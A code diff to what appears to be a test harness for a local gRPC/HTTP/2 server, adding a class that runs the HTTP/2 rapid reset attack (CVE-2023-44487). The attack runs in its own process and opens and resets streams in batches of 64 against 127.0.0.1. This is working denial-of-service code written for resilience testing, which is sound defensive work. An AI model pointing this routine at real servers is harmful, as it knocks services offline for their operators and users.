@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import socket
 import ssl
+import multiprocessing
 import struct
 import time
 from typing import Any
@@ -13,6 +14,7 @@ from typing import Any
 import h2.config
 import h2.connection
 import h2.events
+import h2.exceptions
 
 ATTACKER = "127.0.0.2"
 RECEIVE_POLL_S = 0.02  # how long receive() waits for the server's frames
@@ -130,3 +132,71 @@ class H2Sender:
 
     def close(self) -> None:
         self.sock.close()
+
+
+class RapidResetter:
+    """HTTP/2 rapid reset (CVE-2023-44487) from ``source``: on one connection, calls to ``path`` opened
+    with a whole (empty) message and reset at once, as fast as the server takes the bytes, until
+    ``stop``. In a process of its own, so that it runs at full speed beside the test's own clients.
+    ``streams`` is how many calls it has sent; ``error`` what ended its connection early, if anything."""
+
+    def __init__(self, port: int, path: str, source: str = ATTACKER) -> None:
+        ctx = multiprocessing.get_context("spawn")  # no fork of a process holding gRPC's threads
+        self._sent = ctx.Value("q", 0)
+        self._stop = ctx.Event()
+        self._errors = ctx.SimpleQueue()
+        self._process = ctx.Process(target=_rapid_reset, name="rapid-reset", daemon=True,
+                                    args=(port, path, source, self._sent, self._stop, self._errors))
+        self._process.start()
+        self._error: str | None = None
+
+    @property
+    def streams(self) -> int:
+        return int(self._sent.value)
+
+    @property
+    def error(self) -> str | None:
+        if self._error is None and not self._errors.empty():
+            self._error = self._errors.get()
+        return self._error
+
+    def stop(self) -> None:
+        self._stop.set()
+        self._process.join(SEND_TIMEOUT_S)
+        if self._process.is_alive():
+            self._process.kill()
+            self._process.join()
+
+
+def _rapid_reset(port: int, path: str, source: str, sent: Any, stop: Any, errors: Any) -> None:
+    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    sock.bind((source, 0))
+    sock.connect(("127.0.0.1", port))
+    sock.settimeout(SEND_TIMEOUT_S)
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+    conn.initiate_connection()
+    headers = grpc_request_headers(path, f"127.0.0.1:{port}")
+    empty = struct.pack(">BI", 0, 0)
+    try:
+        while not stop.is_set():
+            for _ in range(64):
+                sid = conn.get_next_available_stream_id()
+                conn.send_headers(sid, headers)
+                conn.send_data(sid, empty, end_stream=True)
+                conn.reset_stream(sid)
+            sock.sendall(conn.data_to_send())  # waits while the server does not read
+            sent.value += 64
+            # Take what the server sent (settings, pings, window updates) without waiting for it.
+            sock.setblocking(False)
+            try:
+                while data := sock.recv(65536):
+                    conn.receive_data(data)
+            except BlockingIOError:
+                pass
+            finally:
+                sock.settimeout(SEND_TIMEOUT_S)
+    except (OSError, h2.exceptions.ProtocolError) as e:
+        if not stop.is_set():
+            errors.put(repr(e))
+    finally:
+        sock.close()
